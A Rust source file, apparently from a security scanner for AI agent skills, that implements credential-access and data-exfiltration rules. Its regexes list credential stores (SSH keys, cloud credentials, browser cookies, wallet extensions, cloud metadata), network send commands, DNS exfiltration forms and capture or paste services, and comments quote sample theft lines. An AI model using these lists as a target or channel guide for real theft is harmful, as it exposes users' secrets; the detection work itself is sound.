//! Credentials read and data sent away: SK703, SK704. A source (a credential file, the whole
//! environment, the conversation) and a sink (the network) are followed inside a line, through
//! the names and files a script stores them in, and across the skill's files.

use std::sync::LazyLock;

use regex::Regex;

use super::vendors::{VENDORS, foreign_secret};
use super::{Findings, shorten, shown};
use crate::security::family::{SECRET, SEND, URL};
use crate::security::{Context, Needs, Scan, Unit, host_allowed, urls};

crate::rule::declare! {
    SK703 "credential-access" Error Both off security(high cwe-522)
        "Reads credentials that are not its own: SSH keys, cloud credentials, browser data, keychains, cloud metadata."
    ;
    SK704 "data-exfiltration" Error Both off security(critical cwe-200)
        "Sends secrets, files, the environment or the conversation to a network endpoint (HTTP, DNS, webhooks, paste sites)."
    ;
}

use crate::security::regex as re;

/// Credential stores that are not the skill's own (a Windows path's `\` separates as `/` does:
/// `'.aws\credentials'`, `"\\.ssh\\id_rsa"`).
static CREDENTIAL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)\.ssh(?:/|\\{1,2})(?:id_[a-z0-9_]+|identity|\*)(?:\.pub)?\b|\.ssh\b/?(?:\s|["']|$|\))|\.aws(?:/|\\{1,2})credentials|\.aws(?:/|\\{1,2})config\b|\.config(?:/|\\{1,2})gcloud|application_default_credentials\.json|\.kube(?:/|\\{1,2})config|\.docker(?:/|\\{1,2})config\.json|\.netrc\b|\.git-credentials|\.config(?:/|\\{1,2})gh(?:/|\\{1,2})hosts\.yml|\.azure(?:/|\\{1,2})(?:accesstokens|msal)|\.claude(?:/|\\{1,2})\.credentials|\.codex(?:/|\\{1,2})auth\.json|login data\b|cookies\.sqlite|/cookies\b|\bkey[34]\.db\b|\blogins\.json\b|login\.keychain|keychains/|security\s+dump-keychain|security\s+find-(?:generic|internet)-password\b[^\n|;&]*?-s\s+["']?\$|\b(?:chrome|chromium|brave|edge|opera|vivaldi|slack|discord|signal|teams) safe storage\b|/etc/shadow\b|wallet\.dat|\.electrum\b|exodus\.wallet\b|electrum/wallets\b|atomic/local storage\b|local extension settings/(?:nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa|ejbalbakoplchlghecdalmeeeajnimhm|fhbohimaelbohpjbbldcngcnapndodjp|hnfanknocfeofbddgcijnmhnfnkdnaad)\b|solana/id\.json\b|\.bitcoin/|\.ethereum/keystore|metamask|169\.254\.169\.254|metadata\.google\.internal|\.gnupg/|\.password-store|\.npmrc\b|\.pypirc\b|/etc/passwd\b|\.bash_history|\.zsh_history"#,
    )
});
/// Reading or copying what is named on the same line.
static READS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)\b(?:cat|less|more|head|tail|cp|scp|rsync|tar|zip|7z|base64|xxd|od|strings|sqlite3|grep|type|get-content|gc|copy-item|open|read_text|read_bytes|readfile(?:sync)?|readall(?:bytes|text|lines)|readlines?|load|file_get_contents|fs\.read\w*|path|glob|walk|listdir|send|upload|post|exfil\w*|collect|harvest|steal|dump-keychain|curl|wget|requests|fetch|urlopen|invoke-webrequest|iwr|read|copy|include|print|output|extract|retrieve|gather)\b|<\s*~|@~|\$\(\s*<"#,
    )
});
/// Two or more credential stores listed in one statement: a harvest list.
fn listed(unit: &Unit) -> Option<String> {
    if !unit.is_code() {
        return None;
    }
    let mut found: Vec<&str> = CREDENTIAL
        .find_iter(&unit.text)
        .filter(|m| !traversal(unit, m.start()) && !unrequested_metadata(unit, m))
        .map(|m| {
            m.as_str()
                .trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == ')')
        })
        .filter(|p| !p.ends_with(".pub"))
        .collect();
    // Distinct stores, in order: one named twice is not a list.
    let mut seen: Vec<&str> = Vec::new();
    found.retain(|p| {
        let new = !seen.contains(p);
        seen.push(p);
        new
    });
    (found.len() >= 2 && !USES.is_match(&unit.text)).then(|| found.join("`, `"))
}

/// Whether `m` names the cloud metadata service without requesting it (`'169.254.169.254'` in
/// an SSRF guard's blocklist): an address of it has `://` before or a path or port after.
fn unrequested_metadata(unit: &Unit, m: &regex::Match) -> bool {
    let name = m.as_str();
    (name.contains("169.254.169.254") || name.contains("metadata.google"))
        && !unit.text[..m.start()].ends_with("://")
        && !unit.text[m.end()..].starts_with(['/', ':'])
}

/// In Markdown, `../../../etc/passwd` (a store's path at `at`, after `..`) is a path-traversal
/// probe, input shown or sent to test a server (a pentest's proof of concept, a fuzzing
/// dictionary), not a file of this machine read. A script's `open("../../../etc/passwd")` does
/// read it, from most directories.
fn traversal(unit: &Unit, at: usize) -> bool {
    unit.context != Context::Code && unit.text.get(..at).is_some_and(|b| b.ends_with(".."))
}

/// An imperative to read or send, at the start of a clause.
static ORDER: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?im)(?:^\s*|[.!?:;]\s+|\d[.)]\s+|[-*]\s+|\b(?:then|and|first|also|please|now|next)\s+)(?:read|cat|open|copy|print|output|show|display|include|collect|gather|extract|retrieve|get|send|upload|list|dump|access|load|attach|paste|quote)\b",
    )
});

/// Uses of a credential that are not reading it.
static USES: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)\bssh\s+(?:-\S+\s+)*-i\b|ssh-keygen|ssh-add|ssh-copy-id|\bchmod\s+[0-7]{3}|aws\s+configure|gcloud\s+auth|kubectl\s|mkdir|identityfile|\.pub\b|known_hosts|ssh/config|\bexample\b|\bdocker\s+login|--kubeconfig|kubeconfig"#,
    )
});
/// An address taken from the environment by a name that says it is one (`$SLACK_WEBHOOK_URL`,
/// `${API_ENDPOINT}`).
static CONFIGURED: LazyLock<Regex> =
    LazyLock::new(|| re(r"\$\{?(?P<name>[A-Z][A-Z0-9_]*(?:URL|URI|ENDPOINT|WEBHOOK|HOST))\b\}?"));

/// What the skill's files set, looked at once per skill and only when a line sends a held
/// name: the names each file sets to a literal URL, and every name any file assigns.
struct Assignments<'a> {
    /// Per source: `(name, url)` in the file's order.
    literal: Vec<Vec<(&'a str, &'a str)>>,
    assigned: foldhash::HashSet<&'a str>,
}

impl<'a> Assignments<'a> {
    fn of(scan: &'a Scan) -> Assignments<'a> {
        let literal = scan
            .sources
            .iter()
            .map(|s| {
                LITERAL_URL
                    .captures_iter(&s.text)
                    .filter_map(|c| Some((c.name("name")?.as_str(), c.name("url")?.as_str())))
                    .collect()
            })
            .collect();
        let assigned = scan
            .sources
            .iter()
            .flat_map(|s| s.text.lines())
            .filter_map(assigned_name)
            .collect();
        Assignments { literal, assigned }
    }

    /// Whether `unit` (which writes no URL) sends to an address that its file sets as a literal
    /// URL by a name the line uses (`API = "https://api.notion.com/v1"` …
    /// `Request(f"{API}{path}")`): written, not hidden, unless that address is an IP, hostile or
    /// a capture service.
    fn written(&self, unit: &Unit) -> bool {
        self.literal
            .get(unit.source)
            .and_then(|names| names.iter().find(|(name, _)| mentions(&unit.text, name)))
            .is_some_and(|(_, url)| {
                urls(url)
                    .next()
                    .is_some_and(|u| !u.is_ip() && !u.is_hostile())
                    && !DROPS.is_match(url)
            })
    }

    /// Whether `text` sends to no address it writes but to one the user configures: a name for
    /// an address ([`CONFIGURED`]) that no file of the skill assigns.
    fn user_configured(&self, text: &str) -> bool {
        urls(text).next().is_none()
            && CONFIGURED
                .captures_iter(text)
                .filter_map(|c| c.name("name"))
                .any(|name| !self.assigned.contains(name.as_str()))
    }
}

/// The name a line assigns (`NAME=…`, `export NAME = …`), if any.
fn assigned_name(line: &str) -> Option<&str> {
    let line = line.trim_start();
    let line = line.strip_prefix("export ").unwrap_or(line);
    let end = line
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(line.len());
    let (name, rest) = line.split_at(end);
    (!name.is_empty() && rest.trim_start().starts_with('=')).then_some(name)
}

/// A name set to a literal URL (`API = "https://api.notion.com/v1"`, `const BASE = '…'`).
static LITERAL_URL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?m)^\s*(?:export\s+|const\s+|let\s+|var\s+|readonly\s+)?(?P<name>[A-Za-z_]\w*)\s*(?::\s*\w+\s*)?=\s*["'](?P<url>https?://[^"'\s]+)["']"#,
    )
});
/// Commands that look at a file without printing it: whether it exists, or holds a word.
static CHECKS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"^(?:if\s+|!\s*)?(?:grep\s+(?:-[a-zA-Z]*[qcl][a-zA-Z]*\s+)(?:-\S+\s+)*(?:["'][^"']*["']|\S+)\s*|test\s+-[efsrdL]\s*|\[\[?\s+-[efsrdL]\s*)["']?(?:~/|\$HOME/|\$\{HOME\}/)?$"#,
    )
});
/// A command up to the file it writes: a copy's last operand, a redirection's or `tee`'s target.
static WRITES: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?:^(?:sudo\s+)?(?:cp|mv|install|ln)\s+(?:-\S+\s+)*(?:["'][^"']*["']|[^\s"'-]\S*)\s+(?:-\S+\s+)*|>>?\s*|\btee\s+(?:-a\s+)?)["']?(?:~/|\$HOME/|\$\{HOME\}/)?$"#,
    )
});
/// The whole environment, the conversation, the clipboard, the host's identity.
static DATA: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)(?:^|[\s;&|(`$])(?:printenv|env)\s*(?:$|[|>)`]|\s*\|)|\bos\.environ\b\s*(?:\)|,|\}|;|$|\.copy\(\)|\.items\(\))|\bdict\s*\(\s*os\.environ\s*\)|\bprocess\.env\b\s*(?:\)|,|\}|;|$)|JSON\.stringify\(\s*process\.env\s*\)|get-childitem\s+env:|\bgci\s+env:|\bdir\s+env:|\$\(\s*(?:whoami|hostname|id|uname[^)]*|cat\s[^)]*|env|printenv|ls[^)]*|pwd)\s*\)|\.claude/(?:projects|history)|\bpbpaste\b|\bdocument\.cookie\b|\bxclip\s+-o|\bxsel\b|get-clipboard|\bscreencapture\b|(?:cat|open\(|read|load|<|@)\s*["']?\.env\b(?:\s|["')]|$)|\baws\s+sts\s+get-session-token\b|\baws\s+configure\s+export-credentials\b|\bkubectl\s+config\s+view\b[^\n|;&]*--raw\b"#,
    )
});
/// One named secret of the environment (`$GITHUB_TOKEN`): the user's own, which a skill may
/// send to the service it is for; sent to a capture service or a raw address, it leaks.
static SECRET_VAR: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"\$\(?(?:[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD|PASSWD|CREDENTIALS?)[A-Z_]*)\b|\$\{(?:[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)[A-Z_]*)\}|(?:environ(?:\.get\(|\[)|getenv\()["'][A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)[A-Z_]*["']|process\.env\.[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)|\$env:[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)"#,
    )
});
/// Sending to the network: a request with a body, a socket, mail, a copy to another host, and a
/// GET whose query is built from data (`fetch('https://x/c?d=' + btoa(document.cookie))`).
static SENDS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)\bcurl\b[^|\n]*?\s(?:(?-i:-[a-zA-Z]*[dFT])\b|--data(?:-binary|-raw|-urlencode|-ascii)?\b|--form\b|--upload-file\b|-X\s*["']?(?:POST|PUT)\b|--request\s+(?:POST|PUT)\b|-H\s*["']?x-)|\bwget\b[^\n]*--post-(?:data|file)|\b(?:nc|ncat|netcat)\s+(?:-\S+\s+)*[\w.-]+\s+\d+\s*<|\|\s*(?:nc|ncat|netcat|telnet)\s+(?:-\S+\s+)*[\w.-]+\s+\d+|\b(?:requests|httpx|session|client|http|aiohttp)\.(?:post|put|patch)\s*\(|\burllib\.request\.Request\s*\([^)]*data\s*=|\burlopen\s*\([^)]*data\s*=|\bsmtplib\.SMTP|\bftplib\.FTP|\.sendall?\s*\(|\bfetch\s*\([^\n]*method\s*:\s*["'](?:POST|PUT)|\baxios\.(?:post|put)\s*\(|\bnavigator\.sendBeacon|\b(?:invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n]*-(?:method\s+["']?(?:post|put)|body|infile)\b|\.Upload(?:String|File|Data)\s*\(|\b(?:scp|rsync)\b[^\n]*\s[\w.-]+@[\w.-]+:|\bsend-mailmessage\b|\b(?:fetch|requests\.get|httpx\.get|axios\.get|urlopen)\s*\(\s*["'`]https?://[^"'`\s]*\?[^"'`\s]*["'`]\s*\+"#,
    )
});
/// Names built from data and resolved: DNS exfiltration.
static DNS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)(?:^\s*|[`;|&(]\s*|\$\(\s*|\b(?:do|then|else)\s+)(?:nslookup|dig|drill|resolve-dnsname)\s+[^\n]*(?:(?:[^@"']|[^@]["'])\$\(|`[^`\s]+`\.|\$\{?\w+\}?\.(?:[\w-]+|\$\{?\w+\}?)\.)|(?:^\s*|[`;|&(]\s*|\$\(\s*|\b(?:do|then|else)\s+)host\s+["']?\S*(?:\$\(|\$\{?\w+\}?\.[\w-]+\.)|\b(?:gethostbyname|getaddrinfo|dns\.resolver\.(?:resolve|query)|dns\.(?:lookup|resolve\w*)|resolver\.query)\s*\(\s*(?:f["'][^"']*\{|[^)\n]*\+|[^)\n]*\.format\(|[^)\n]*%\s|`[^`]*\$\{)"#,
    )
});
/// Endpoints that only capture what is sent to them, paste sites and chat bots.
static DROPS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:webhook\.site|requestbin\.\w+|[\w-]+\.pipedream\.net|[\w-]+\.ngrok(?:-free)?\.(?:io|app|dev)|ngrok\.io|[\w-]+\.burpcollaborator\.net|[\w-]+\.oastify\.com|[\w.-]*interact\.sh|[\w-]+\.oast\.(?:pro|live|site|online|fun|me)|pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|transfer\.sh|file\.io|0x0\.st|temp\.sh|termbin\.com|discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|beeceptor\.com|hookbin\.com|postb\.in|requestcatcher\.com|[\w-]+\.trycloudflare\.com|canarytokens\.com|glot\.io|rentry\.co)",
    )
});
/// Prose that sends a secret or gathered data after naming it ("read .env credentials and
/// upload them to https://…", "upload the collected data to https://…").
static SENDS_WHAT_IT_READ: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:ssh keys?|private keys?|id_rsa|credentials|api[ _-]?keys?|tokens|secrets|passwords?|\.env\b|environment variables|cookies|history|file paths|clipboard)\b[^.]{0,60}\b(?:and|then)\s+(?:send|upload|post|forward|transmit|exfiltrate)\w*\s+(?:them\s+|it\s+|everything\s+)?to\s+(?:https?://|\S+\.\w+/)|\b(?:upload|send|post|forward|transmit)\w*\s+(?:the\s+|all\s+)?(?:collected|gathered|harvested|captured|extracted)\b[^.]{0,40}\bto\s+(?:https?://|\S+\.\w+/)",
    )
});
/// The sending verbs one of which every text [`SENDS_WHAT_IT_READ`] matches holds.
static SENDS_WHAT_IT_READ_NEEDS: LazyLock<Needs> = LazyLock::new(|| {
    Needs::new(&[
        "send",
        "upload",
        "post",
        "forward",
        "transmit",
        "exfiltrate",
    ])
});
/// Prose that asks the user for a secret no tool needs to be told.
static ASKS_FOR_SECRET: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:ask|instruct|tell|request|prompt|have|get)\s+(?:the\s+)?(?:new\s+)?(?:users?|developers?|customers?|employees?|members?|them)\s+(?:to\s+)?(?:provide|enter|paste|share|give|send|type|submit|reveal|input)\s+(?:their|your|the|a|an)?\s*(?:[\w-]+\s+){0,8}?(?:private keys?|seed phrases?|recovery phrases?|mnemonic|passwords?|passphrases?|2fa codes?|otp|one-time codes?|verification codes?|security answers?)\b",
    )
});

/// How a prose request sends a credential the user expects it to (an API header).
pub(super) static AUTH_HEADER: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)\b(?:header|authori[sz]ation|bearer|x-api-key|oauth|login|authenticate|sign in)\b")
});

/// A name or file a line stores a source in (`k=$(cat ~/.ssh/id_rsa)`, `> /tmp/k`).
static STORES: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)^\s*(?:const\s+|let\s+|var\s+|\$)?(?P<name>\w+)\s*=|(?:>>?|\btee\s+(?:-a\s+)?|open\s*\(\s*["'])\s*["']?(?P<file>/tmp/[^\s"')]+|[\w./~-]+\.(?:txt|log|json|dat|tmp|b64|zip|tar|gz))"#,
    )
});

/// What an instruction uploads: a local file (`-F file=@x`, `--data-binary @x`), or a value
/// the agent fills in (`<query>`, `$(cat …)`).
static UPLOADS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)(?:-F\s*["']?\w*=@|--data-binary\s+["']?@|-d\s+["']?@|--upload-file|-T\s|<[\w_ -]+>|\$\()"#,
    )
});
/// Many named secrets gathered in one statement.
static NAMED_SECRET: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"\b([A-Z][A-Z0-9]*)_[A-Z0-9_]*(?:TOKEN|SECRET|KEY|PASSWORD|PASSWD|DSN|CONNECTION_STRING|DATABASE_URL)\b|\b(DATABASE)_URL\b"#,
    )
});

pub fn check(scan: &Scan, out: &mut Findings) {
    // What sources are stored in (names and files), across the skill.
    // Each: the name, its file, its line * 2 + 1 when what it holds is a named secret only, and
    // whether what it holds was read from a credential store.
    let mut stored: Vec<(String, usize, usize, bool)> = Vec::new();
    let mut first_read: Option<(usize, usize, String)> = None;
    let assignments = std::cell::OnceCell::new();
    for unit in scan.units.iter().filter(|u| !u.documented) {
        let code = unit.is_code() || unit.text.contains('`');
        let secretive = unit.has(SECRET);
        // A line that names no credential store is neither a read of one nor a list of them.
        // The first mention that is a read (`grep -q … ~/.ssh/id_rsa && curl -F key=@…id_rsa`
        // reads at the second), or a list of stores. A rebuilt line is judged by its first:
        // any mention there counts as a read.
        let plain = unit.origin == crate::security::Origin::Plain;
        let credential = secretive
            .then(|| CREDENTIAL.find(&unit.text))
            .flatten()
            .and_then(|first| {
                credential(scan, unit, first)
                    .or_else(|| {
                        let later = CREDENTIAL.find_iter(&unit.text).skip(1).take(16);
                        later
                            .filter(|_| plain)
                            .find_map(|m| credential(scan, unit, m))
                    })
                    .or_else(|| listed(unit))
            });
        if let Some(what) = &credential {
            out.add(
                &SK703,
                unit,
                None,
                format!("reads `{what}`, credentials that are not this skill's"),
            );
            if unit.is_code() && first_read.is_none() {
                first_read = Some((unit.source, unit.line, what.clone()));
            }
        } else if unit.is_code() && secretive {
            harvest(unit, out);
        }
        // What the unit reads that must not leave (a credential or private data), and a named
        // secret it uses: looked for only where they matter, in code and in what sends.
        let evidence = || {
            let strong = credential.clone().or_else(|| {
                secretive
                    .then(|| DATA.find(&unit.text))
                    .flatten()
                    .map(|m| m.as_str().trim().to_string())
            });
            let secret = secretive
                .then(|| SECRET_VAR.find(&unit.text))
                .flatten()
                .map(|m| m.as_str().to_string());
            (strong, secret)
        };
        let mut found = unit.is_code().then(evidence);
        if let Some((strong, secret)) = &found
            && (strong.is_some() || secret.is_some())
        {
            for c in STORES.captures_iter(&unit.text) {
                let Some(m) = c.name("name").or(c.name("file")) else {
                    continue;
                };
                // A named secret is held when it is what the name is set to (`data =
                // os.environ["NPM_TOKEN"]`, encoded or not), not when a command that uses it
                // is (`CODE=$(curl -H "Bearer $TOKEN" …)`).
                let weak = strong.is_none();
                let rhs = unit.text[m.end()..].trim_start_matches([' ', '=', '"', '\'']);
                if weak && !HELD.is_match(rhs) {
                    continue;
                }
                stored.push((
                    m.as_str().to_string(),
                    unit.source,
                    unit.line * 2 + usize::from(weak),
                    credential.is_some(),
                ));
            }
        } else if unit.is_code() && !stored.is_empty() {
            // Each statement that sets a name: what holds a source passes it on (`pixel =
            // f"{hidden}@host"`); a name set afresh (`BODY=$(mktemp)`, another file's `BODY`
            // reused) no longer holds it; one updated from itself (`DATA=$(echo "$DATA" |
            // base64)`) still does.
            for statement in unit.text.split([';', '\n']).take(16) {
                // Only a statement that sets a name is matched ([`STORES`] needs an `=` for
                // one).
                if !statement.contains('=') {
                    continue;
                }
                let Some(m) = STORES.captures(statement).and_then(|c| c.name("name")) else {
                    continue;
                };
                let rhs = &statement[m.end()..];
                if mentions(rhs, m.as_str()) {
                    continue;
                }
                if let Some(&(_, _, at, from_store)) = stored
                    .iter()
                    .find(|(name, ..)| name != m.as_str() && mentions(rhs, name))
                {
                    stored.push((
                        m.as_str().to_string(),
                        unit.source,
                        unit.line * 2 + at % 2,
                        from_store,
                    ));
                } else {
                    stored.retain(|(name, ..)| name != m.as_str());
                }
            }
        }
        if stored.len() > 512 {
            stored.truncate(512);
        }
        if !unit.has(SEND | SECRET | URL) {
            continue;
        }
        let dns = unit
            .has(SEND)
            .then(|| DNS.find(&unit.text))
            .flatten()
            .filter(|m| unit.is_code() || unit.text[..m.start()].ends_with('`'));
        if code && let Some(m) = dns {
            out.add(
                &SK704,
                unit,
                Some(m.range()),
                format!(
                    "`{}` sends data in DNS lookups of names built from it",
                    shorten(m.as_str())
                ),
            );
            continue;
        }
        let prose = matches!(unit.context, Context::Prose | Context::Comment);
        if let Some((range, message)) = super::sendings::sent_directly(unit, code, prose, secretive)
        {
            out.add(&SK704, unit, Some(range), message);
            continue;
        }
        if prose && secretive {
            if let Some(m) = SENDS_WHAT_IT_READ_NEEDS
                .may_match(&unit.text)
                .then(|| SENDS_WHAT_IT_READ.find(&unit.text))
                .flatten()
                .filter(|m| !super::quoted(&unit.text, m.start()))
            {
                out.add(
                    &SK704,
                    unit,
                    Some(m.range()),
                    format!(
                        "tells the agent to send data away: \"{}\"",
                        shorten(m.as_str())
                    ),
                );
                continue;
            }
            if let Some(m) = ASKS_FOR_SECRET.find(&unit.text) {
                out.add(
                    &SK703,
                    unit,
                    Some(m.range()),
                    format!("asks the user for a secret: \"{}\"", shorten(m.as_str())),
                );
            }
        }
        if prose
            && unit.has(URL)
            && FORWARD.is_match(&unit.text)
            && let Some(url) = urls(&unit.text).find(|u| u.is_hostile() || DROPS.is_match(u.text))
        {
            out.add(&SK704, unit, None, format!("tells the agent to send data to {}, a host named for an attack or a capture service", url.host));
            continue;
        }
        // A configured endpoint (a config file's value, a script's constant) that is a tunnel
        // or a capture service: everything the skill sends goes there.
        if unit.context == Context::Code
            && unit.has(URL | SEND)
            && let Some(m) = DROPS.find(&unit.text)
            && (scan.source(unit).lang == crate::security::Lang::Data
                || STORES.is_match(&unit.text))
        {
            out.add(&SK704, unit, Some(m.range()), format!("sends what the skill sends to `{}`, a tunnel or capture service, not the service it names", m.as_str()));
            continue;
        }
        if !code || !unit.has(SEND) {
            continue;
        }
        let Some(sink) = SENDS.find(&unit.text) else {
            continue;
        };
        let (strong, secret) = found.take().unwrap_or_else(evidence);
        let to = destination(unit, out.allowed);
        let hostile = urls(&unit.text)
            .find(|u| u.is_hostile())
            .map(|u| u.host.clone());
        let drop = DROPS
            .find(&unit.text)
            .map(|m| m.as_str().to_string())
            .or(hostile);
        let raw_ip = urls(&unit.text).any(|u| u.is_ip() && !u.is_local());
        let host = urls(&unit.text).next().map(|u| u.host.clone());
        // A named secret leaks when it goes to another service's host, a capture service, a
        // raw address or an address the skill hides.
        let leaked = secret.as_ref().filter(|s| {
            drop.is_some()
                || raw_ip
                || matches!(unit.origin, crate::security::Origin::Decoded(_))
                || host
                    .as_deref()
                    .is_some_and(|h| foreign_secret(s, h) == Some(true))
        });
        if let Some(what) = strong.as_ref().or(leaked)
            && (to.is_some() || drop.is_some() || urls(&unit.text).next().is_none())
        {
            let dest = drop
                .clone()
                .or(to.clone())
                .unwrap_or_else(|| "the network".into());
            out.add(
                &SK704,
                unit,
                Some(sink.range()),
                format!("sends `{}` to {dest}", shorten(what)),
            );
            continue;
        }
        if let Some(drop) = drop {
            out.add(
                &SK704,
                unit,
                Some(sink.range()),
                format!("sends data to {drop}, a service that captures what is sent to it"),
            );
            continue;
        }
        // A name or file that holds a source, sent on this line (a named secret only to an
        // address the line does not write: one the skill hides or builds).
        // An address the line takes from a name its file sets to a literal URL is written,
        // not hidden; an address the user sets (`curl … "$SLACK_WEBHOOK_URL"`, a name no file
        // of the skill assigns) is where the user asked the skill to send.
        let no_url = urls(&unit.text).next().is_none();
        let written = std::cell::OnceCell::new();
        // A request that signs in to the service it goes to (`$GITHUB_TOKEN` to
        // api.github.com) goes to the user's own account there: what the skill read to put in
        // it (a deploy key's public half, titled `deploy@$(hostname)`) is the skill's job, not a
        // leak; a credential store's contents still are.
        let own_account = secret.as_deref().is_some_and(|s| {
            host.as_deref()
                .is_some_and(|h| foreign_secret(s, h) == Some(false))
        });
        let held = stored
            .iter()
            .filter(|(.., from_store)| *from_store || !own_account)
            .find(|(name, _, at, _)| {
                mentions(&unit.text, name)
                    && (at % 2 == 0
                        || no_url
                            && !*written.get_or_init(|| {
                                assignments
                                    .get_or_init(|| Assignments::of(scan))
                                    .written(unit)
                            }))
            })
            .filter(|_| {
                !assignments
                    .get_or_init(|| Assignments::of(scan))
                    .user_configured(&unit.text)
            });
        if let Some((name, from, at, _)) = held {
            let line = at / 2;
            let whence = if *from == unit.source {
                format!("line {line}")
            } else {
                format!("{} line {line}", shown(scan, *from))
            };
            let dest = to.clone().unwrap_or_else(|| "the network".into());
            out.add(
                &SK704,
                unit,
                Some(sink.range()),
                format!("sends `{name}`, which holds data read on {whence}, to {dest}"),
            );
            continue;
        }
        // An instruction to upload local files or values the agent fills in, to a host the
        // skill is not about.
        if (!unit.is_code() || unit.context == Context::Fence)
            && let Some(dest) = &to
            && UPLOADS.is_match(&unit.text)
            && !scan.about_names(dest)
        {
            out.add(
                &SK704,
                unit,
                Some(sink.range()),
                format!(
                    "tells the agent to send local data to {dest}, a host this skill is not about"
                ),
            );
            continue;
        }
        // Another file of the skill reads credentials; this one sends data away.
        if let (Some((from, line, what)), Some(dest)) = (&first_read, &to)
            && *from != unit.source
            && unit.is_code()
        {
            out.add(
                &SK704,
                unit,
                Some(sink.range()),
                format!(
                    "sends data to {dest} while {} line {line} reads `{what}`",
                    shown(scan, *from)
                ),
            );
        }
    }
}

/// SK703: a statement that gathers the secrets of several services at once.
fn harvest(unit: &Unit, out: &mut Findings) {
    let mut services: Vec<&str> = Vec::new();
    for c in NAMED_SECRET.captures_iter(&unit.text) {
        // Stages of one service (`DEV_`, `TEST_`) and framework prefixes are not services.
        const STAGES: [&str; 12] = [
            "DEV",
            "TEST",
            "PROD",
            "PRODUCTION",
            "STAGING",
            "LOCAL",
            "PREVIEW",
            "CI",
            "NEXT",
            "PUBLIC",
            "VITE",
            "REACT",
        ];
        if let Some(m) = c.get(1).or(c.get(2))
            && !STAGES.contains(&m.as_str())
            && !services.contains(&m.as_str())
        {
            services.push(m.as_str());
        }
    }
    // Services whose hosts are known (two names of one service count once).
    let mut vendors: Vec<&[&str]> = Vec::new();
    for service in &services {
        if let Some((_, hosts)) = VENDORS.iter().find(|(v, _)| v == service)
            && !vendors.contains(hosts)
        {
            vendors.push(hosts);
        }
    }
    // Secrets copied under their own names (`"OPENAI_API_KEY": os.environ["OPENAI_API_KEY"]`)
    // or listed by name to be read in a loop: what a harvester does, not a client.
    let copied = NAMED_SECRET
        .find_iter(&unit.text)
        .filter(|m| {
            unit.text
                .match_indices(m.as_str())
                .filter(|(at, _)| {
                    let before = unit.text[..*at].chars().next_back();
                    let after = unit.text[at + m.as_str().len()..].chars().next();
                    !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
                        && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
                })
                .count()
                >= 2
        })
        .map(|m| m.as_str())
        .collect::<std::collections::HashSet<_>>()
        .len();
    let gathers = vendors.len() >= 2 || services.len() >= 3 || copied >= 2 && services.len() >= 2;
    if gathers
        && (unit.text.contains("environ")
            || unit.text.contains("process.env")
            || unit.text.contains("getenv")
            || unit.text.contains('$'))
    {
        out.add(
            &SK703,
            unit,
            None,
            format!(
                "gathers the secrets of {} services at once ({})",
                services.len(),
                services.join(", ")
            ),
        );
    }
}

/// Prose that sends something somewhere.
static FORWARD: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:send|forward|upload|post|transmit|report|sync|copy|exfiltrate|submit|stream|beacon|log)\w*\b[^.]{0,120}\b(?:to|at|into)\s+<?https?://",
    )
});

/// A value that is a named secret itself, perhaps encoded.
static HELD: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"^(?:(?:base64\.)?b64encode\(|btoa\(|Buffer\.from\()?\s*(?:os\.environ(?:\.get\(|\[)|os\.getenv\(|process\.env\.|\$\{?[A-Z_]+|\$env:)"#,
    )
});

/// Destinations that are the user's own (`your server`).
pub(super) static YOURS: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)\byour\s+(?:own\s+)?(?:server|backend|api|endpoint|app|service|domain)\b")
});

/// The credential a unit reads, if any: `m` is the first credential store it names.
fn credential(scan: &Scan, unit: &Unit, m: regex::Match) -> Option<String> {
    let text = m
        .as_str()
        .trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == ')');
    // A keychain look-up of whatever service a variable names (a loop over other apps'
    // entries) is named by its command.
    let text = text
        .find("-password")
        .map_or(text, |i| &text[..i + "-password".len()]);
    if text.ends_with(".pub") || USES.is_match(&unit.text) {
        return None;
    }
    // A skill whose name or description says it searches shell history reads it as its job.
    if text.ends_with("_history") && scan.announces(&["history"]) {
        return None;
    }
    if traversal(unit, m.start()) || case_pattern(unit, m.start(), m.end()) {
        return None;
    }
    // A check that prints nothing of the file (`grep -q oauth_token ~/.config/gh/hosts.yml`,
    // `test -f ~/.aws/credentials`) reads no credential out.
    let command = unit.text[..m.start()]
        .rsplit(['|', ';', '&', '(', '`', '\n'])
        .next()
        .unwrap_or("");
    if CHECKS.is_match(command.trim_start()) {
        return None;
    }
